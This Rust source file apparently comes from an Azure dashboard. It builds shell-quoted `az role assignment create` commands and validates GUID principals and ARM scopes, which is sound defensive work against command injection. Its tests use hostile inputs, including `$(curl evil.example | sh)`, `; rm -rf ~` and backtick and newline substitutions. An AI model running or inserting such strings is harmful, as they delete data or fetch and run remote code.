//! Command lines the dashboard offers to copy into a terminal: the `az role assignment create`
//! of a permission failure (docs/PRODUCT.md §6), quoted for a POSIX shell.
//!
//! The principal and scope come out of Azure's error text, which quotes whatever the request
//! carried, so they are untrusted: only a GUID principal and an ARM-id scope
//! (`/subscriptions/<guid>` or `/subscriptions/<guid>/resourceGroups/<name>`, the name by ARM's
//! rules; for a network permission, a `Microsoft.Network` resource in such a group) make a
//! command, and every argument is quoted besides, so a pasted command can never run anything
//! the dashboard did not write.

use crate::naming::{validate_resource_group_name, validate_subscription_id};

/// `az role assignment create --assignee <principal> --role Contributor --scope <scope>`, or
/// `None` when the principal is not a GUID or the scope not a subscription or resource group id.
pub fn role_assignment_command(principal: &str, scope: &str) -> Option<String> {
    if !is_arm_scope(scope) {
        return None;
    }
    role_command(principal, "Contributor", scope)
}

/// The role assignment that lets `principal` use a network resource (join a subnet, manage a
/// private DNS zone): `Private DNS Zone Contributor` on a private DNS zone, `Network
/// Contributor` on anything else. `None` unless the principal is a GUID and the scope a
/// `Microsoft.Network` resource id (`/subscriptions/<guid>/resourceGroups/<name>/providers/
/// Microsoft.Network/<type>/<name>[/<type>/<name>…]`, names by ARM's characters).
pub fn network_role_assignment_command(principal: &str, scope: &str) -> Option<String> {
    let resource_type = network_resource_type(scope)?;
    let role = if resource_type.eq_ignore_ascii_case("privateDnsZones") {
        "Private DNS Zone Contributor"
    } else {
        "Network Contributor"
    };
    role_command(principal, role, scope)
}

/// `az role assignment create` for a GUID principal; the scope was validated by the caller.
fn role_command(principal: &str, role: &str, scope: &str) -> Option<String> {
    validate_subscription_id(principal).ok()?;
    Some(format!(
        "az role assignment create --assignee {} --role {} --scope {}",
        posix_quote(principal),
        posix_quote(role),
        posix_quote(scope)
    ))
}

/// The top resource type of a `Microsoft.Network` resource id in a resource group
/// (`virtualNetworks` for a subnet id), or `None` for anything else.
fn network_resource_type(scope: &str) -> Option<&str> {
    let segments: Vec<&str> = scope.split('/').collect();
    let [
        "",
        subscriptions,
        _,
        groups,
        _,
        providers,
        namespace,
        rest @ ..,
    ] = segments.as_slice()
    else {
        return None;
    };
    let group_scope = segments.get(..5)?.join("/");
    let well_formed = subscriptions.eq_ignore_ascii_case("subscriptions")
        && groups.eq_ignore_ascii_case("resourceGroups")
        && providers.eq_ignore_ascii_case("providers")
        && namespace.eq_ignore_ascii_case("Microsoft.Network")
        && is_arm_scope(&group_scope)
        && !rest.is_empty()
        && rest.len() % 2 == 0
        && rest.iter().all(|segment| is_resource_name(segment));
    well_formed.then(|| rest.first().copied()).flatten()
}

/// A resource type or name as ARM allows them in network ids: 1 to 80 letters, digits, `.`,
/// `_` or `-`.
fn is_resource_name(segment: &str) -> bool {
    (1..=80).contains(&segment.len())
        && segment
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'-'))
}

/// A subscription id or resource group id: `/subscriptions/<guid>` with an optional
/// `/resourceGroups/<name>` (segment names case-insensitive, as ARM reads them).
pub fn is_arm_scope(scope: &str) -> bool {
    let mut segments = scope.split('/');
    if segments.next() != Some("") {
        return false;
    }
    match (
        segments.next(),
        segments.next(),
        segments.next(),
        segments.next(),
        segments.next(),
    ) {
        (Some(subscriptions), Some(id), group_segment, group, None) => {
            let subscription_ok = subscriptions.eq_ignore_ascii_case("subscriptions")
                && validate_subscription_id(id).is_ok();
            let group_ok = match (group_segment, group) {
                (None, None) => true,
                (Some(segment), Some(name)) => {
                    segment.eq_ignore_ascii_case("resourceGroups")
                        && validate_resource_group_name(name).is_ok()
                }
                _ => false,
            };
            subscription_ok && group_ok
        }
        _ => false,
    }
}

/// `argument` as one word for a POSIX shell: unchanged when it holds only characters no shell
/// reads specially (letters, digits and `-_./:@%+=,`), else in single quotes, inside which
/// nothing is special; a single quote itself is written `'\''`.
pub fn posix_quote(argument: &str) -> String {
    let plain = !argument.is_empty()
        && argument.chars().all(|c| {
            c.is_ascii_alphanumeric()
                || matches!(c, '-' | '_' | '.' | '/' | ':' | '@' | '%' | '+' | '=' | ',')
        });
    if plain {
        argument.to_owned()
    } else {
        format!("'{}'", argument.replace('\'', r"'\''"))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rstest::rstest;

    const PRINCIPAL: &str = "5d3f1e2a-7b9c-4d8e-a1f0-3c2b4a5d6e7f";
    const SUBSCRIPTION: &str = "/subscriptions/8c2f9f8e-3b1d-4c6a-9e5f-1a2b3c4d5e6f";

    #[test]
    fn a_guid_and_a_group_id_make_the_command() {
        let scope = format!("{SUBSCRIPTION}/resourceGroups/rg-platform");
        assert_eq!(
            role_assignment_command(PRINCIPAL, &scope).as_deref(),
            Some(
                "az role assignment create --assignee 5d3f1e2a-7b9c-4d8e-a1f0-3c2b4a5d6e7f --role Contributor --scope /subscriptions/8c2f9f8e-3b1d-4c6a-9e5f-1a2b3c4d5e6f/resourceGroups/rg-platform"
            )
        );
        assert!(role_assignment_command(PRINCIPAL, SUBSCRIPTION).is_some());
    }

    #[test]
    fn network_permissions_get_the_network_roles() {
        let subnet = format!(
            "{SUBSCRIPTION}/resourceGroups/rg-network/providers/Microsoft.Network/virtualNetworks/vnet-spoke/subnets/aks-nodes"
        );
        assert_eq!(
            network_role_assignment_command(PRINCIPAL, &subnet),
            Some(format!(
                "az role assignment create --assignee {PRINCIPAL} --role 'Network Contributor' --scope {subnet}"
            ))
        );
        let zone = format!(
            "{SUBSCRIPTION}/resourceGroups/dns/providers/Microsoft.Network/privateDnsZones/privatelink.westeurope.azmk8s.io"
        );
        assert!(
            network_role_assignment_command(PRINCIPAL, &zone)
                .is_some_and(|c| c.contains("--role 'Private DNS Zone Contributor'"))
        );
    }

    #[rstest]
    #[case::not_network(
        "/subscriptions/8c2f9f8e-3b1d-4c6a-9e5f-1a2b3c4d5e6f/resourceGroups/rg/providers/Microsoft.Compute/virtualMachines/vm"
    )]
    #[case::substitution(
        "/subscriptions/8c2f9f8e-3b1d-4c6a-9e5f-1a2b3c4d5e6f/resourceGroups/rg/providers/Microsoft.Network/virtualNetworks/$(id)"
    )]
    #[case::odd_segments(
        "/subscriptions/8c2f9f8e-3b1d-4c6a-9e5f-1a2b3c4d5e6f/resourceGroups/rg/providers/Microsoft.Network/virtualNetworks"
    )]
    #[case::placeholder_subscription(
        "/subscriptions/<sub>/resourceGroups/rg/providers/Microsoft.Network/virtualNetworks/v"
    )]
    #[case::space(
        "/subscriptions/8c2f9f8e-3b1d-4c6a-9e5f-1a2b3c4d5e6f/resourceGroups/rg/providers/Microsoft.Network/virtualNetworks/v; rm -rf ~"
    )]
    #[case::group_only("/subscriptions/8c2f9f8e-3b1d-4c6a-9e5f-1a2b3c4d5e6f/resourceGroups/rg")]
    fn a_hostile_or_foreign_network_scope_offers_no_command(#[case] scope: &str) {
        assert_eq!(network_role_assignment_command(PRINCIPAL, scope), None);
    }

    #[test]
    fn a_group_name_with_parentheses_is_quoted() {
        let scope = format!("{SUBSCRIPTION}/resourcegroups/rg(dev)");
        assert_eq!(
            role_assignment_command(PRINCIPAL, &scope).as_deref(),
            Some(
                format!("az role assignment create --assignee {PRINCIPAL} --role Contributor --scope '{scope}'")
                    .as_str()
            )
        );
    }

    #[rstest]
    #[case::command_separator("x; rm -rf ~")]
    #[case::substitution("$(curl evil.example | sh)")]
    #[case::backticks("`id`")]
    #[case::single_quote("a'b")]
    #[case::double_quote("a\"b")]
    #[case::newline("5d3f1e2a-7b9c-4d8e-a1f0-3c2b4a5d6e7f\nrm -rf ~")]
    #[case::empty("")]
    #[case::not_a_guid("ebb57515")]
    fn a_hostile_principal_offers_no_command(#[case] principal: &str) {
        let scope = format!("{SUBSCRIPTION}/resourceGroups/rg");
        assert_eq!(role_assignment_command(principal, &scope), None);
    }

    #[rstest]
    #[case::command_separator(
        "/subscriptions/8c2f9f8e-3b1d-4c6a-9e5f-1a2b3c4d5e6f/resourceGroups/rg; rm -rf ~"
    )]
    #[case::substitution(
        "/subscriptions/8c2f9f8e-3b1d-4c6a-9e5f-1a2b3c4d5e6f/resourceGroups/$(id)"
    )]
    #[case::quote("/subscriptions/8c2f9f8e-3b1d-4c6a-9e5f-1a2b3c4d5e6f/resourceGroups/a'b")]
    #[case::newline(
        "/subscriptions/8c2f9f8e-3b1d-4c6a-9e5f-1a2b3c4d5e6f/resourceGroups/rg\nrm -rf ~"
    )]
    #[case::not_a_subscription_guid("/subscriptions/fcfd/resourceGroups/dev")]
    #[case::deeper_than_a_group(
        "/subscriptions/8c2f9f8e-3b1d-4c6a-9e5f-1a2b3c4d5e6f/resourceGroups/rg/providers/x"
    )]
    #[case::relative("subscriptions/8c2f9f8e-3b1d-4c6a-9e5f-1a2b3c4d5e6f")]
    #[case::trailing_slash("/subscriptions/8c2f9f8e-3b1d-4c6a-9e5f-1a2b3c4d5e6f/")]
    #[case::other_segment("/subscriptions/8c2f9f8e-3b1d-4c6a-9e5f-1a2b3c4d5e6f/tenants/x")]
    #[case::group_without_name(
        "/subscriptions/8c2f9f8e-3b1d-4c6a-9e5f-1a2b3c4d5e6f/resourceGroups"
    )]
    #[case::root("/")]
    fn a_hostile_scope_offers_no_command(#[case] scope: &str) {
        assert_eq!(role_assignment_command(PRINCIPAL, scope), None);
    }

    #[rstest]
    #[case("plain-word_1.2/x:y@z%+=,", "plain-word_1.2/x:y@z%+=,")]
    #[case("", "''")]
    #[case("a b", "'a b'")]
    #[case("; rm -rf ~", "'; rm -rf ~'")]
    #[case("$(id)", "'$(id)'")]
    #[case("`id`", "'`id`'")]
    #[case("it's", r"'it'\''s'")]
    #[case("a\nb", "'a\nb'")]
    #[case("*", "'*'")]
    fn quoting_leaves_nothing_for_the_shell_to_read(#[case] argument: &str, #[case] quoted: &str) {
        assert_eq!(posix_quote(argument), quoted);
    }
}
